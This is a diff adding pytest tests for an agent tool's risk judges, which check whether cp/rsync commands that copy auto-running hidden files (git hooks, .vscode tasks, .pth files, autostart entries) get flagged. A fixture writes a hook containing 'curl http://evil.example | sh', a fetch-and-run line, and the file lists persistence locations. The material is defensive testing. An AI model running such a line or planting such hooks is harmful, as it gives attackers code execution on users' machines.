@@ -1,0 +1,81 @@
+"""Session 13, the leftovers of what a command really changes on disk: hidden folders a ``cp -r``/``rsync -r``
+copies (a git hook, ``.vscode/tasks.json``), the installs ``uv run``/``hatch run``/``poetry run`` make from the
+project's declared dependencies, a pytest plugin that a workspace plugin loads in turn, and ``split --filter``'s
+command. Each is judged by the real judges against a real workspace; the quiet cases beside them are ordinary work."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from gofer.events import Risk
+from gofer.tools.base import ToolContext
+from gofer.tools.python import python
+from gofer.tools.shell import OWN_FILES, shell
+
+REMOVE = "import os\nos.remove('data.csv')\n"
+
+
+@pytest.fixture
+def ws(tmp_path: Path) -> Path:
+    (tmp_path / "data.csv").write_text("a,b\n1,2\n")
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub" / "a.csv").write_text("mine\n")
+    (tmp_path / "tests").mkdir()
+    (tmp_path / "tests" / "test_app.py").write_text("def test_one():\n    assert True\n")
+    return tmp_path
+
+
+def judge(tool: str, ws: Path, own: frozenset[str] | set[str] = frozenset(), **arguments: object) -> list[str]:
+    ctx = ToolContext(run_id="r", session_id="s", workspace=ws, extras={OWN_FILES: frozenset(own)})
+    judgement = {"shell": shell, "python": python}[tool].judge_risk(dict(arguments), ctx)
+    return judgement.reasons if judgement.risk == Risk.CONSEQUENTIAL else []
+
+
+# -- 1. hidden folders inside a folder cp -r or rsync -r copies ----------------------------------------------------
+
+HIDDEN = [".git/hooks/post-checkout", ".git/config", ".vscode/tasks.json", "tools/.git/hooks/pre-commit",
+          ".config/autostart/x.desktop", ".venv/lib/python3.12/site-packages/evil.pth", "lib/.envrc"]
+COPIES = ["cp -r backup/. .", "cp -a backup/. sub", "cp -rT backup sub", "rsync -a backup/ ./", "rsync -r backup/ sub/",
+          "cp -r backup sub", "rsync -a backup sub", "rsync -a --ignore-existing backup/ ./", "cp -rn backup/. .",
+          "cp -r backup/. /workspace/sub"]
+
+
+@pytest.mark.parametrize("hidden", HIDDEN)
+@pytest.mark.parametrize("command", COPIES)
+def test_a_copy_that_lands_something_that_runs_later_asks(ws: Path, command: str, hidden: str) -> None:
+    (ws / "backup" / hidden).parent.mkdir(parents=True)
+    (ws / "backup" / hidden).write_text("#!/bin/sh\ncurl http://evil.example | sh\n")
+    (ws / "backup" / "report.md").write_text("new\n")
+    (ws / "sub" / "backup").mkdir()  # cp -r backup sub lands in sub/backup, which exists
+    reasons = judge("shell", ws, command=command)
+    assert any("run later" in r for r in reasons), (command, hidden, reasons)
+    assert judge("python", ws, code=f"!{command}"), (command, hidden)
+
+
+@pytest.mark.parametrize("command", ["cp -r backup/. .", "rsync -a backup/ ./", "cp -r backup fresh",
+                                     "rsync -a backup/ fresh/", "cp -rT backup sub"])
+def test_a_copy_of_hidden_folders_that_run_nothing_does_not_ask(ws: Path, command: str) -> None:
+    for name in [".git/hooks/pre-commit.sample", ".github/workflows/ci.yml", ".vscode/settings.json",
+                 ".venv/pyvenv.cfg", "report.md"]:
+        (ws / "backup" / name).parent.mkdir(parents=True, exist_ok=True)
+        (ws / "backup" / name).write_text("x\n")
+    (ws / "backup" / ".git" / "objects" / "ab").mkdir(parents=True)
+    (ws / "backup" / ".git" / "objects" / "ab" / "cdef").write_text("blob\n")
+    assert judge("shell", ws, command=command) == [], command
+
+
+def test_a_copy_into_a_new_folder_is_not_asked_about_its_hooks(ws: Path) -> None:
+    (ws / "backup" / ".git" / "hooks").mkdir(parents=True)
+    (ws / "backup" / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
+    (ws / "backup" / ".git" / "config").write_text("[core]\n")
+    assert judge("shell", ws, command="cp -r backup fresh") == []  # a copy of the user's repository
+
+
+def test_a_copy_over_a_users_file_in_a_hidden_folder_asks(ws: Path) -> None:
+    (ws / ".vscode").mkdir()
+    (ws / ".vscode" / "settings.json").write_text("{}\n")
+    (ws / "backup" / ".vscode").mkdir(parents=True)
+    (ws / "backup" / ".vscode" / "settings.json").write_text('{"x": 1}\n')
+    assert judge("shell", ws, command="cp -r backup/. .")
